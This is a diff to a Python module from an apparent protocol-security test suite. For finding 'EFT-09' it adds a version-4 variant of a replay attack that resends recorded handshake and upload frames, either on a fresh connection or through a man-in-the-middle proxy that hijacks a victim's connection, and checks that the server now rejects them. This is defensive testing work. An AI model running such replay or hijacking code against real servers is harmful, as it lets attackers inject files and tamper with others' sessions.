@@ -15,6 +15,12 @@ Requests carry no nonce, counter, timestamp or MAC, so the server cannot tell a 
 
 Success: the server answered the replayed upload with the recorded CRC and the 900
 with 1604, i.e. it stored the recorded file again.
+
+``--protocol 4``: on a new connection the replayed message 1 gets a new message 2 (a
+fresh server ephemeral key), so the replayed message 3 no longer authenticates and the
+server closes. On the victim's left connection the recorded records of an upload
+(``--nth``; file names are sealed) are replayed in order: the record counter has moved
+on, so the first one fails its tag and the server closes without an answer.
 """
 
 from __future__ import annotations
@@ -28,6 +34,7 @@ from .common import AttackError, ConnectionClosed, Link, Out, ServerLink, add_li
 from .framing import Frame, name_request
 from .proxy import Hijack, MitmConnection, MitmProxy
 from .recording import Attempt, SessionView, load_sessions
+from .v4 import Upload, V4View, add_protocol_argument, v4_view, v4_views
 
 FINDING = "EFT-09"
 SUMMARY = "replay a recorded upload: the server stores the file again"
@@ -39,6 +46,7 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--recording", help="replay this recording on a new connection")
     parser.add_argument("--file", help="the file whose upload to replay (default: the first)")
     parser.add_argument("--nth", type=int, default=1, help="which upload of that file (1)")
+    add_protocol_argument(parser)
 
 
 def choose(view: SessionView, name: str | None, nth: int) -> Attempt:
@@ -112,7 +120,69 @@ async def replay_recording(link: ServerLink, view: SessionView, out: Out) -> boo
     )
 
 
+def upload_frames(upload: Upload) -> list[bytes]:
+    frames = [upload.meta.frame.raw, *(c.frame.raw for c in upload.chunks)]
+    return frames + ([upload.verdict.frame.raw] if upload.verdict else [])
+
+
+async def answers_to(link: Link, frames: list[bytes], expected: int) -> list[int]:
+    """Send ``frames``, then read up to ``expected`` answers; -1 once the server closed."""
+    await link.send(*frames)
+    codes: list[int] = []
+    try:
+        for _ in range(expected):
+            codes.append((await link.receive(3.0)).code)
+    except ConnectionClosed:
+        codes.append(-1)
+    except AttackError:
+        codes.append(0)  # no answer, connection open
+    return codes
+
+
+def verdict_v4(out: Out, codes: list[int], where: str) -> bool:
+    # A new message 2 (1602) is the server greeting a new connection, not an acceptance.
+    accepted = [c for c in codes if c not in (ResponseCode.PUBLIC_KEY_ACCEPTED, -1, 0)]
+    if accepted:
+        return out.result(True, f"the server took the replay {where}", answers=codes)
+    return out.result(
+        False,
+        f"the replay {where} stored nothing: the server closed without an answer",
+        answers=codes,
+    )
+
+
+async def run_v4(args: argparse.Namespace, out: Out) -> bool:
+    if args.recording:
+        views = [v for v in v4_views(load_sessions(Path(args.recording))) if v.uploads]
+        if not views or views[0].hello is None or views[0].intent is None:
+            raise AttackError("the recording holds no version-4 upload")
+        view: V4View = views[0]
+        assert view.hello is not None and view.intent is not None
+        link = await ServerLink.open(args.target)
+        try:
+            codes = await answers_to(link, [view.hello.raw], 1)
+            out.step("replayed message 1: a new message 2", answers=codes)
+            rest = [view.intent.raw] + [r.frame.raw for r in view.requests]
+            codes += await answers_to(link, rest, len(view.responses))
+        finally:
+            await link.close()
+        return verdict_v4(out, codes, "on a new connection")
+
+    async def after(conn: MitmConnection, view: SessionView) -> bool:
+        uploads = [u for u in v4_view(view).uploads if u.verified]
+        if len(uploads) < args.nth:
+            raise AttackError(f"the session has no verified upload number {args.nth}")
+        upload = uploads[args.nth - 1]
+        out.step("the victim left; replaying its upload on its server connection")
+        codes = await answers_to(conn, upload_frames(upload), 3)
+        return verdict_v4(out, codes, "on the victim's left connection")
+
+    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)
+
+
 async def run(args: argparse.Namespace, out: Out) -> bool:
+    if args.protocol == 4:
+        return await run_v4(args, out)
     if args.recording:
         sessions = load_sessions(Path(args.recording))
         view = next((v for v in sessions if v.attempts), None)
